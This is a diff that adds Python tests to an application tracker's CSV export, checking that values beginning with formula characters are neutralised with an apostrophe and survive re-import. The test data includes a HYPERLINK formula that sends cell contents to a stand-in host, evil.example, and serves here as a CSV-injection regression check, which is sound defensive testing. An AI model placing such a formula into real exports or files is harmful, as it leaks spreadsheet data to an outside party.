@@ -311,3 +311,31 @@ def test_the_csv_export_reads_back(env, tmp_path):
     after = {name: (a["status"], a["applied_on"], a["source"]) for name, a in exported_applications(other).items()}
     assert after == before
     other.close()
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
+
+
+def test_the_csv_export_writes_formulas_as_text_and_they_read_back_as_written(env, tmp_path):
+    # The attack: a company or role named like a formula runs as one when the export is opened.
+    for n, formula in enumerate(FORMULAS):
+        applications.add_application(env, applications.NewApplication(company=f"{formula} {n}", role=formula))
+    stored = sorted((a["company"], a["role"]) for a in export_json(env)["applications"])
+    exported = export_csv(env)
+    rows = list(csv.DictReader(io.StringIO(exported)))
+    assert len(rows) == len(FORMULAS)
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), (column, cell)
+    assert sorted(row["role"] for row in rows) == sorted("'" + role for _company, role in stored)
+    config = str(tmp_path / "settings.toml")
+    other = bootstrap(db_path=str(tmp_path / "other.db"), config_path=config, clock=lambda: NOW)
+    import_csv(other, exported)
+    assert sorted((a["company"], a["role"]) for a in export_json(other)["applications"]) == stored
+    other.close()
+
+
+def test_an_apostrophe_before_ordinary_text_is_kept_on_import(env):
+    import_csv(env, (HEADER + "'Quoted Ltd,'-,2026-11-02,applied\n").encode())
+    (app,) = export_json(env)["applications"]
+    assert (app["company"], app["role"]) == ("'Quoted Ltd", "-")
